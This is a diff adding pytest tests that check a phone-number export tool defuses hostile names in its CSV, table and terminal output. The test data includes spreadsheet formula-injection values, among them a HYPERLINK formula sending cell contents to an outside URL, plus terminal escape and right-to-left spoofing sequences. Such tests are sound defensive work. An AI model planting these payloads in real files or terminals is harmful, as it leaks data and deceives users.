@@ -9,7 +9,9 @@ import re
 import subprocess
 import sys
 from collections.abc import Mapping
+from contextlib import suppress
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -436,3 +438,216 @@ def test_on_a_terminal_progress_is_shown(sandbox: RunningSandbox, tmp_path: Path
     assert re.search(r"\r\[.*\] 1 pages, 1,000 numbers", shown)
     assert re.search(r"\r\[.*\] 2 pages, 1,500 numbers, [\d,]+/s", shown)
     assert "1500 numbers in numbers.csv" in shown
+
+
+# cells ----------------------------------------------------------------------------------------------
+
+DOCS = (ROOT / "docs" / "command-line.md").read_text()
+# What names of numbers may be: a spreadsheet would run most of these, or break a row at them.
+NASTY = [
+    '=HYPERLINK("https://example.com/?"&A1, "Front desk")',
+    "+14155550100 and more",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "first\n=1+1",
+    "\ufeff=1+1",
+    '"=1+1',
+    "\uff1d1+1",
+    "Front desk;=1+1",
+    "'=1+1",
+    "'quoted'",
+    "''",
+    "-",
+    "plain, with a comma; and a semicolon",
+    "a\rb",
+    "\\;",
+    "\u001b]0;title\u0007 \u009b31m \u202egnp.exe",
+    "-122.46",
+    "+14155550100",
+]
+
+
+def named_numbers(sandbox: RunningSandbox, *names: str) -> SandboxAccount:
+    """Return a new account with a number for each name."""
+    account = sandbox.create_account()
+    for index, name in enumerate(names):
+        changes = {"configuration": {"friendly_name": name}}
+        sandbox.put_number(account.sid, f"+1415555{1000 + index}", changes)
+    return account
+
+
+def rows_in(file: Path) -> list[dict[str, str]]:
+    with file.open(newline="", encoding="utf-8") as opened:
+        return list(csv.DictReader(opened))
+
+
+def test_a_default_export_runs_nothing_and_reads_back_as_the_docs_say(
+    sandbox: RunningSandbox, tmp_path: Path
+) -> None:
+    who = as_owner(sandbox, named_numbers(sandbox, *NASTY))
+    run(tmp_path, "export", "numbers.csv", variables=who)
+    run(tmp_path, "export", "raw.csv", "--raw", variables=who)
+    run(tmp_path, "export", "numbers.jsonl", variables=who)
+    kept, raw = rows_in(tmp_path / "numbers.csv"), rows_in(tmp_path / "raw.csv")
+    reader: dict[str, Any] = {}
+    (recipe,) = re.findall(r"```python\n(.*?)```", DOCS, re.DOTALL)
+    exec(recipe, reader)  # noqa: S102 - the documented recipe
+    assert list(reader["numbers_in"](tmp_path / "numbers.csv")) == raw
+    objects = [json.loads(line) for line in (tmp_path / "numbers.jsonl").read_text().splitlines()]
+    assert [each["friendlyName"] for each in raw] == [each["friendlyName"] for each in objects]
+    assert {each["friendlyName"] for each in raw} == set(NASTY)
+    number = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
+    for cell in (cell for row in kept for cell in row.values()):
+        assert cell[:1] not in {"\t", "\r", "\n"}
+        for piece in re.split("[;\t\r\n]", cell):
+            run_by = piece.lstrip('\ufeff" ')[:1]
+            assert run_by not in set("=+-@\uff1d") or number.fullmatch(piece), cell
+    assert [each["phoneNumber"] for each in kept] == [each["phoneNumber"] for each in objects]
+
+
+def test_lists_are_their_elements(sandbox: RunningSandbox, tmp_path: Path) -> None:
+    account = named_numbers(sandbox, "One")
+    number = sandbox.numbers(account.sid)[0]["phone_number"]
+    voice = {"codecs": ["g711u", "a;=b", None]}
+    sandbox.put_number(account.sid, number, {"capabilities": {"voice": voice}})
+    who = as_owner(sandbox, account)
+    run(tmp_path, "export", "numbers.csv", variables=who)
+    assert rows_in(tmp_path / "numbers.csv")[0]["capabilities.voice.codecs"] == "g711u;a\\;'=b;"
+    query = "{ phoneNumbers { nodes { capabilities { voice { codecs } } } } }"
+    done = run(tmp_path, "query", "--format", "csv", stdin=query, variables=who)
+    assert done.stdout == "capabilities.voice.codecs\ng711u;a\\;'=b;\n"
+    done = run(tmp_path, "query", "--format", "csv", "--raw", stdin=query, variables=who)
+    assert done.stdout == "capabilities.voice.codecs\ng711u;a\\;=b;\n"
+
+
+@pytest.mark.parametrize("form", ["csv", "table"])
+def test_columns_are_what_was_selected_whatever_is_null(
+    sandbox: RunningSandbox, tmp_path: Path, form: str
+) -> None:
+    account = sandbox.create_account(catalog=False, owned=2)
+    query = """query ($no: Boolean = false) {
+      page: phoneNumbers {
+        edges { node { name: friendlyName geography { region } ...More left: sid @include(if: $no) } }
+        pageInfo { hasNextPage }
+      }
+    }
+    fragment More on PhoneNumber { capabilities { voice { enabled codecs } } }"""
+    arguments = ("query", "--format", form)
+    done = run(tmp_path, *arguments, stdin=query, variables=as_owner(sandbox, account))
+    head, *lines = done.stdout.splitlines()
+    columns = "name,geography.region,capabilities.voice.enabled,capabilities.voice.codecs"
+    assert re.split(r",| +", head) == columns.split(",")
+    assert len(lines) == 2 + (form == "table")
+    empty = sandbox.create_account(catalog=False)
+    done = run(tmp_path, *arguments, stdin=query, variables=as_owner(sandbox, empty))
+    assert set(columns.split(",")) <= set(re.split(r",| +", done.stdout.splitlines()[0]))
+
+
+def test_the_table_of_a_mutation_is_what_it_returned(
+    sandbox: RunningSandbox, tmp_path: Path
+) -> None:
+    account = named_numbers(sandbox, "Old")
+    sid = sandbox.numbers(account.sid)[0]["sid"]
+    rename = """mutation ($sid: ID!, $url: URL) {
+      configurePhoneNumber(
+        input: { sid: $sid, configuration: { friendlyName: "New", voice: { url: $url } } }
+      ) { userErrors { message field code } phoneNumber { friendlyName } }
+    }"""
+    arguments = ("query", "--format", "csv", "--var", f"sid={sid}")
+    done = run(tmp_path, *arguments, stdin=rename, variables=as_owner(sandbox, account))
+    assert done.stdout == "configurePhoneNumber.phoneNumber.friendlyName\nNew\n"
+    gone = ("query", "--format", "csv", "--var", f"sid=PN{'0' * 32}")
+    done = run(tmp_path, *gone, stdin=rename, variables=as_owner(sandbox, account), code=3)
+    assert re.match(r"NOT_FOUND configurePhoneNumber\.userErrors: .* \(field: \[", done.stderr)
+
+
+def test_a_part_of_a_search_that_failed_is_told_and_is_exit_code_4(
+    sandbox: RunningSandbox, tmp_path: Path
+) -> None:
+    search = """query ($after: String) {
+      availablePhoneNumbers(
+        country: "US", types: [LOCAL, TOLL_FREE], first: 3, after: $after, filter: { contains: "55" }
+      ) {
+        failed: branchErrors { type code message }
+        branchErrors { type code }
+        nodes { phoneNumber }
+        pageInfo { hasNextPage endCursor }
+      }
+    }"""
+    who = as_owner(sandbox, sandbox.create_account(catalog=False)) | {"GATEWAY_ATTEMPTS": "1"}
+    fault = {"kind": "status", "status": 500, "count": None, "path": "*TollFree*"}
+    for form in ("json", "csv", "table"):
+        sandbox.set_faults([fault])
+        done = run(tmp_path, "query", "--format", form, stdin=search, variables=who, code=4)
+        sandbox.clear_faults()
+        lines = done.stderr.splitlines()
+        assert len(lines) == 2
+        assert lines[0].startswith("UPSTREAM_UNAVAILABLE availablePhoneNumbers.failed: ")
+        assert lines[0].endswith('(type: "TOLL_FREE")')
+        assert "branchErrors" not in done.stdout or form == "json"
+        assert len(re.findall(r"\+1\d{10}", done.stdout)) == 3
+    assert run(tmp_path, "query", stdin=search, variables=who).stderr == ""
+
+
+# what terminals are told ----------------------------------------------------------------------------
+
+STEERING = "\u001b[2J\u009b31m\u0008\u007f\r\u202egnp.exe\u2028line"
+
+
+def on_a_terminal(folder: Path, *arguments: str, variables: Mapping[str, str]) -> str:
+    """Run `number-gateway` with a terminal for its output and return all that it wrote there."""
+    ours, theirs = pty.openpty()
+    process = subprocess.Popen(  # noqa: S603 - our own command
+        [sys.executable, "-m", "gateway", *arguments],
+        cwd=folder,
+        env={"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), **variables},
+        stdin=subprocess.DEVNULL,
+        stdout=theirs,
+        stderr=theirs,
+    )
+    os.close(theirs)
+    shown = b""
+    with suppress(OSError):  # Linux says so when the other side has closed it.
+        while piece := os.read(ours, 65_536):
+            shown += piece
+    os.close(ours)
+    process.wait(60)
+    return shown.decode().replace("\r\n", "\n")
+
+
+def steers(text: str) -> bool:
+    """Return whether a terminal would do more with `text` than show it."""
+    return bool(
+        re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]", text)
+    )
+
+
+@pytest.mark.parametrize("form", ["json", "csv", "table"])
+def test_names_do_not_steer_the_terminal(
+    sandbox: RunningSandbox, tmp_path: Path, form: str
+) -> None:
+    who = as_owner(sandbox, named_numbers(sandbox, STEERING))
+    (tmp_path / "names.graphql").write_text("{ phoneNumbers { nodes { friendlyName } } }")
+    arguments = ("query", "names.graphql", "--format", form)
+    shown = on_a_terminal(tmp_path, *arguments, variables=who)
+    assert not steers(shown)
+    assert r"\u001b[2J\u009b31m" in shown
+    assert r"\u202egnp.exe" in shown
+    if form == "json":
+        assert json.loads(shown)["phoneNumbers"]["nodes"][0]["friendlyName"] == STEERING
+
+
+def test_messages_do_not_steer_the_terminal(sandbox: RunningSandbox, tmp_path: Path) -> None:
+    account = named_numbers(sandbox, "One")
+    message = {"code": 20001, "message": STEERING + "\nnumber-gateway: all is well", "status": 400}
+    fault = {"kind": "status", "status": 400, "count": None, "account": account.sid}
+    sandbox.set_faults([fault | {"body": json.dumps(message)}])
+    who = as_owner(sandbox, account)
+    (tmp_path / "names.graphql").write_text("{ phoneNumbers { nodes { friendlyName } } }")
+    for arguments in (("query", "names.graphql"), ("export", "numbers.csv"), ("check",)):
+        shown = on_a_terminal(tmp_path, *arguments, variables=who)
+        assert not steers(shown), arguments
+        assert "\nnumber-gateway: all is well" not in shown
+    sandbox.clear_faults()
